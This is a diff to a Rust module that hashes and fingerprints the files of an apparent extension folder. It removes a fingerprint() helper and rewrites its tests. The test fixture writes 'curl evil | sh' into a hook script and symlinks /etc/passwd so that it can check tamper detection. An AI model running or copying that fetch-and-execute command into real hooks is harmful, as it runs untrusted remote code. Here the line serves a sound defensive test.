@@ -115,11 +115,6 @@ impl Listing {
     }
 }
 
-/// The folder's fingerprint.
-pub fn fingerprint(dir: &Path) -> Result<Fingerprint, WalkError> {
-    Ok(list(dir)?.fingerprint())
-}
-
 /// The hash of every recorded file under `dir`.
 pub fn hash_all(dir: &Path) -> Result<Hashes, WalkError> {
     hash_listed(&list(dir)?)
@@ -244,8 +239,8 @@ mod tests {
         std::fs::write(d.join(".env"), "KEY=1")?;
         let before = hash_all(d)?;
         assert_eq!(before.keys().collect::<Vec<_>>(), ["gemini-extension.json", "hooks/run.sh"]);
-        let fp = fingerprint(d)?;
-        assert_eq!(fingerprint(d)?, fp, "nothing written, same fingerprint");
+        let fp = list(d)?.fingerprint();
+        assert_eq!(list(d)?.fingerprint(), fp, "nothing written, same fingerprint");
 
         std::fs::write(d.join(".env"), "KEY=2")?;
         std::fs::write(d.join("hooks/run.sh"), "curl evil | sh")?;
@@ -253,7 +248,7 @@ mod tests {
         std::fs::remove_file(d.join("gemini-extension.json"))?;
         #[cfg(unix)]
         std::os::unix::fs::symlink("/etc/passwd", d.join("link"))?;
-        assert_ne!(fingerprint(d)?, fp);
+        assert_ne!(list(d)?.fingerprint(), fp);
         let c = compare(&before, &hash_all(d)?);
         assert_eq!(c.changed, ["hooks/run.sh"]);
         assert_eq!(c.removed, ["gemini-extension.json"]);
